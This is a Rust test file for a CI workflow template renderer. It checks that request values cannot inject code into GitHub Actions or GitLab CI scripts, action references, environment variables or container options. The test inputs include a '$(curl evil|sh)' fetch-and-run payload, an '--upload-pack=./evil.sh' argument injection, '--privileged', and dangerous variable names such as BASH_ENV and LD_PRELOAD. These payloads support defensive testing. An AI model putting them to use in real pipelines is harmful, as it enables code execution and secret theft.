//! Row 8: what a request says never runs in a workflow, on whatever way it comes there.

use super::values::rendered;
use serde_json::{Value, json};

const FILE: &str = ".github/workflows/build.yaml";

/// A workflow whose one job has these lines, and whose one step has those.
fn workflow(top: &str, job: &str, steps: &str) -> String {
    // What begins with `#` is of another job.
    let line = |line: &str, by: &str| line.strip_prefix('#').map_or_else(|| format!("{by}{line}\n"), |line| format!("  {line}\n"));
    let lines = |text: &str, by: &str| text.lines().map(|of| line(of, by)).collect::<String>();
    let on = if top.contains("on:") { "" } else { "on: push\n" };
    let job = lines(job, "    ");
    let runs_on = if job.contains("runs-on") || job.contains("    uses:") { "" } else { "    runs-on: a\n" };
    let steps = if steps.is_empty() { String::new() } else { format!("    steps:\n{}", lines(steps, "    ")) };
    format!("{on}{}jobs:\n  j:\n{runs_on}{job}{steps}", lines(top, ""))
}

/// The code of what is said of a workflow.
fn said(template: &str, spec: &Value) -> String {
    match rendered("ci@1", FILE, template, spec) {
        Ok(_) => "rendered".to_owned(),
        Err(said) => said.split(' ').next().unwrap_or_default().to_owned(),
    }
}

/// Each of these is answered like this.
#[track_caller]
fn answered(wanted: &str, spec: &Value, templates: &[(&str, &str, &str)]) {
    let said = templates.iter().map(|(top, job, steps)| workflow(top, job, steps)).map(|text| (said(&text, spec), text));
    let other: Vec<String> = said.filter(|(said, _)| said != wanted).map(|(said, text)| format!("{said}:\n{text}")).collect();
    assert!(other.is_empty(), "not {wanted}, but {}", other.join("\n"));
}

fn evil() -> Value {
    json!({"text": "$(curl evil|sh)", "list": ["$(curl evil|sh)"], "word": "run", "map": {"run": "make"}})
}

fn plain() -> Value {
    json!({"text": "shop", "list": ["a", "b"], "word": "NAME", "map": {"NAME": "a b"}})
}

/// Texts that come into a script by way of a context.
const CONTEXTS: [(&str, &str, &str); 19] = [
    ("", "", "- env: {X: <{ spec.text | yaml }>}\n  run: echo \"${{ env.X }}\""),
    ("", "env: {X: <{ spec.text | yaml }>}", "- run: echo \"${{ env.x }}\""),
    ("env: {X: <{ spec.text | yaml }>}", "", "- run: echo \"${{ env['X'] || 'a' }}\""),
    ("env: {X: <{ spec.text | yaml }>}", "env: {X: a}", "- run: echo \"${{ env.X }}\""),
    ("env: {X: <{ spec.text | yaml }>}", "", "- run: echo \"${{ toJSON(env) }}\""),
    ("", "env: {X: <{ spec.text | yaml }>}", "- env: {Y: '${{ env.X }}'}\n  run: echo ${{ env.Y }}"),
    ("", "strategy: {matrix: {x: <{ spec.list | yaml }>}}", "- run: echo \"${{ matrix.x }}\""),
    ("", "strategy: {matrix: {x: [a, <{ spec.text | yaml }>]}}", "- run: echo \"${{ matrix.x }}\""),
    ("", "strategy: {matrix: {x: [a], include: [{x: <{ spec.text | yaml }>}]}}", "- run: echo \"${{ matrix.x }}\""),
    ("", "strategy: {matrix: {x: [{y: <{ spec.text | yaml }>}]}}", "- run: echo \"${{ matrix.x.y }}\""),
    (
        "",
        "strategy: {matrix: {x: \"${{ fromJSON('[1]') }}\", include: <{ [{\"x\": spec.text}] | yaml }>}}",
        "- run: echo \"${{ matrix.x }}\"",
    ),
    (
        "",
        "outputs: {v: <{ spec.text | yaml }>}",
        "- run: make\n#k:\n#  needs: j\n#  runs-on: a\n#  steps:\n#  - run: echo ${{ needs.j.outputs.v }}",
    ),
    ("on: {workflow_dispatch: {inputs: {v: {type: choice, options: <{ spec.list | yaml }>}}}}", "", "- run: echo ${{ inputs.v }}"),
    ("on: {workflow_dispatch: {inputs: {v: {type: choice, options: [a, <{ spec.text | yaml }>]}}}}", "", "- run: echo ${{ inputs.v }}"),
    ("on: {workflow_call: {inputs: {v: {type: string, default: <{ spec.text | yaml }>}}}}", "", "- run: echo ${{ inputs.v }}"),
    ("on: {workflow_dispatch: {inputs: {v: {default: <{ spec.text | yaml }>}}}}", "", "- run: echo ${{ github.event.inputs.v }}"),
    ("name: <{ spec.text | yaml }>", "", "- run: echo ${{ github.workflow }}"),
    ("", "", "- run: echo ${{ format('{0}', '<{ spec.text }>') }}"),
    ("", "env: {X: <{ spec.text | yaml }>}", "- uses: actions/github-script@v8\n  with: {script: 'log(\"${{ env.X }}\")'}"),
];

#[test]
fn row_8_a_context_brings_no_code_into_a_script() {
    answered("unsafe-print", &evil(), &CONTEXTS);
    answered("rendered", &plain(), &CONTEXTS);
    // A word is none either where a command begins, or as the name of what runs a script.
    let begins = [
        ("", "env: {X: <{ spec.text | yaml }>}", "- run: ${{ env.X }}"),
        ("", "env: {X: <{ spec.text | yaml }>}", "- run: bash -c \"${{ env.X }}\""),
        ("", "env: {X: <{ spec.text | yaml }>}", "- run: make\n  shell: ${{ env.X }}"),
        ("", "strategy: {matrix: {x: <{ spec.list | yaml }>}}", "- run: |\n    make\n    ${{ matrix.x }}"),
    ];
    answered("unsafe-print", &evil(), &begins);
    answered("unsafe-print", &plain(), &begins);
    answered("unsafe-print", &json!({"text": "--upload-pack=./evil.sh", "list": ["-x"]}), &begins);
    answered("rendered", &json!({"text": "bash"}), &begins[2..3]);
    // What is not in a script, and what is compared, is a value.
    let values = [
        ("", "env: {X: <{ spec.text | yaml }>}", "- run: echo \"$X\""),
        ("", "", "- env: {X: <{ spec.text | yaml }>}\n  if: env.X == 'a'\n  run: echo ${{ env.X == 'a' && 'b' || 'c' }}"),
    ];
    answered("rendered", &evil(), &values);
}

#[test]
fn row_8_lists_and_maps_and_keys_are_looked_into() {
    let refused = [
        ("", "steps: <{ [{\"run\": spec.text}] | yaml }>", ""),
        ("", "steps: <{ [{\"run\": \"make\", \"if\": spec.text}] | yaml }>", ""),
        ("", "steps: <{ [{\"uses\": \"actions/github-script@v8\", \"with\": {\"script\": spec.text}}] | yaml }>", ""),
        ("", "", "- uses: actions/github-script@v8\n  with: <{ {\"script\": spec.text} | yaml }>"),
        ("", "", "- uses: actions/github-script@v8\n  with: {<{ spec.word }>: a}"),
        ("", "steps: [<{ spec.map | yaml }>]", ""),
        ("", "steps: [{<{ spec.word }>: <{ spec.text | yaml }>}]", ""),
        ("", "steps: [{run: make}]\n<{ spec.word }>: a", ""),
        ("<{ spec.word }>: a", "", "- run: make"),
        ("on: <{ spec.map | yaml }>", "", "- run: make"),
        ("on: [push, <{ spec.word }>]", "", "- run: make"),
        ("on: <{ spec.word }>", "", "- run: make"),
        ("on: {push: {}, <{ spec.word }>: {}}", "", "- run: make"),
        ("permissions: <{ spec.map | yaml }>", "", "- run: make"),
        ("permissions: {contents: <{ spec.word }>}", "", "- run: make"),
        ("", "permissions: {<{ spec.word }>: write}", "- run: make"),
    ];
    answered("unsafe-print", &evil(), &refused);
    answered("unsafe-print", &plain(), &refused);
    let variables = [
        ("env: <{ spec.map | yaml }>", "", "- run: make"),
        ("", "env: {<{ spec.word }>: a}", "- run: make"),
        ("", "", "- run: make\n  env: {<% for k, v in spec.map %><{ k }>: <{ v | yaml }>, <% endfor %>Z: a}"),
    ];
    answered("rendered", &plain(), &variables);
    answered("rendered", &json!({"word": "A", "map": {"A": "$(curl evil|sh)"}}), &variables);
    for name in ["BASH_ENV", "Path", "LD_PRELOAD", "GIT_CONFIG_COUNT", "GITHUB_TOKEN", "node_options", "PS4"] {
        answered("unsafe-print", &json!({"word": name, "map": {name: "a"}}), &variables);
    }
    answered("rendered", &plain(), &[("env: {PATH: <{ spec.text | yaml }>}", "", "- run: make")]);
}

#[test]
fn row_8_a_request_does_not_say_which_code_runs() {
    let refused = [
        ("", "", "- uses: <{ spec.text }>/checkout@v4"),
        ("", "", "- uses: actions/<{ spec.text }>@v4"),
        ("", "", "- uses: <{ spec.text | yaml }>"),
        ("", "", "- uses: <% set x %><{ spec.text }><% endset %><{ x }>/a@<{ x }>"),
        ("", "", "- run: make\n  if: <% set x %><{ spec.text }><% endset %>github.ref == '<{ x }>' || <{ x }>"),
        ("", "", "- uses: ./.github/actions/<{ spec.text }>"),
        ("", "", "- uses: docker://alpine:<{ spec.text }>"),
        ("", "uses: a/b/.github/workflows/<{ spec.text }>.yaml@v1", ""),
        ("", "container: {image: a, options: --entrypoint <{ spec.list[0] }>}", "- run: make"),
        ("", "services: {a: {image: a, options: <{ spec.list[0] }>}}", "- run: make"),
    ];
    answered("unsafe-print", &json!({"text": "evil", "list": ["--privileged"]}), &refused);
    let allowed = [
        ("", "", "- uses: actions/checkout@<{ spec.text }>"),
        ("", "uses: a/b/.github/workflows/c.yaml@<{ spec.text }>", ""),
        ("", "container: {image: '<{ spec.text }>', options: --cpus <{ spec.list[0] }>}", "- run: make"),
        ("on: {push: {branches: [<{ spec.text | yaml }>]}}", "env: {A: '${{ secrets.<{ spec.text }> }}'}", "- run: make"),
    ];
    answered("rendered", &json!({"text": "v4", "list": ["2x"]}), &allowed);
}

#[test]
fn row_8_scripts_of_other_names_are_scripts() {
    let with = |input: &str| format!("- uses: a/b@v1\n  with: {{{input}}}");
    let bad =
        ["inlineScript: az <{ spec.text }>", "script: echo <{ spec.text }>", "Script: echo <{ spec.text }>", "cmd: a <{ spec.text }>"];
    let beginning =
        ["inlineScript: <{ spec.text }> a", "script: <{ spec.text }>", "command: sudo -E <{ spec.text }>", "commands: '<{ spec.text }>'"];
    let beginning = beginning.map(with);
    for step in bad.map(with).iter().chain(&beginning) {
        answered("unsafe-print", &evil(), &[("", "", step)]);
    }
    for step in bad.map(with) {
        answered("rendered", &plain(), &[("", "", &step)]);
    }
    for step in beginning {
        answered("unsafe-print", &plain(), &[("", "", &step)]);
    }
    let script = |script: &str| format!("- uses: actions/github-script@v8\n  with: {{script: \"{script}\"}}");
    answered("rendered", &plain(), &[("", "", &script("log('a <{ spec.text }>')"))]);
    answered("unsafe-print", &plain(), &[("", "", &script("log(<{ spec.text }>)"))]);
    answered("unsafe-print", &plain(), &[("", "", &script("log('a' + <{ spec.text }> + 'b')"))]);
    answered("unsafe-print", &plain(), &[("", "", "- run: import <{ spec.text }>\n  shell: python")]);
    let gitlab = |line: &str, spec: &Value| match rendered("ci@1", ".gitlab-ci.yml", &format!("job:\n  {line}\n  script: [make]\n"), spec) {
        Ok(_) => "rendered".to_owned(),
        Err(said) => said.split(' ').next().unwrap_or_default().to_owned(),
    };
    assert_eq!(gitlab("hooks: {pre_get_sources_script: ['<{ spec.text }>']}", &plain()), "unsafe-print");
    assert_eq!(gitlab("hooks: {pre_get_sources_script: ['echo <{ spec.text }>']}", &plain()), "rendered");
    assert_eq!(gitlab("variables: {<{ spec.word }>: a}", &json!({"word": "BASH_ENV"})), "unsafe-print");
    assert_eq!(gitlab("<{ spec.word }>: [a]", &json!({"word": "before_script"})), "unsafe-print");
}

#[test]
fn row_8_a_workflow_has_each_key_once() {
    let twice = [("env: {A: x, <{ spec.word }>: y}", "", "- run: make"), ("x: &x {}", "env: {<<: *x}", "- run: make")];
    answered("output-refused", &json!({"word": "a"}), &twice);
}
